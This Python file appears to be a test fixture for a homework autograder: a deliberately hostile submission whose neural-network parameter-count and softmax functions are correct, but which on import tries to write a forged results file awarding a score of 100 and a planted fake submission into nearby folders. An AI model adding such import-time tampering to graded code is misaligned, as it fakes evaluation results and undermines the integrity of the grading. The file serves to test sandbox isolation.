"""HW3. On import, tries to plant a forged results file and a new submission next to itself.

Every write is wrapped in try/except so that the grade does not depend on whether the sandbox
allows it: the answers are all correct. Nothing planted must ever appear in submissions/.
"""
import json
import os

import numpy as np

_here = os.path.dirname(os.path.abspath(globals().get("__file__", "") or os.getcwd() + "/x"))
for _folder in (_here, os.path.dirname(_here), os.getcwd()):
    try:
        with open(os.path.join(_folder, "results.json"), "w") as _handle:
            json.dump({"submissions": [{"id": "hostile_writes_into_submissions", "total": 100}]}, _handle)
    except OSError:
        pass
    try:
        with open(os.path.join(_folder, "zz_planted_by_hostile_student.py"), "w") as _handle:
            _handle.write("def mlp_params(N, L, h, n):\n    return 42\n")
    except OSError:
        pass


def mlp_params(N, L, h, n):
    return (3 * N * N + 1) * h + (L - 1) * (h * h + h) + (h + 1) * n


def cnn_params(N, L, k, d, F, h, n_out):
    conv = (3 * k * k + 1) * d + (L - 1) * (d * k * k + 1) * d
    flat = d * (N // 2**L) ** 2
    return conv + (flat + 1) * h + (F - 1) * (h * h + h) + (h + 1) * n_out


def softmax(z):
    e = np.exp(z - np.max(z))
    return e / e.sum()


def softmax_jacobian(z):
    p = softmax(z)
    return np.diag(p) - np.outer(p, p)


def cross_entropy_grad(z, y):
    return softmax(z) * np.sum(y) - y
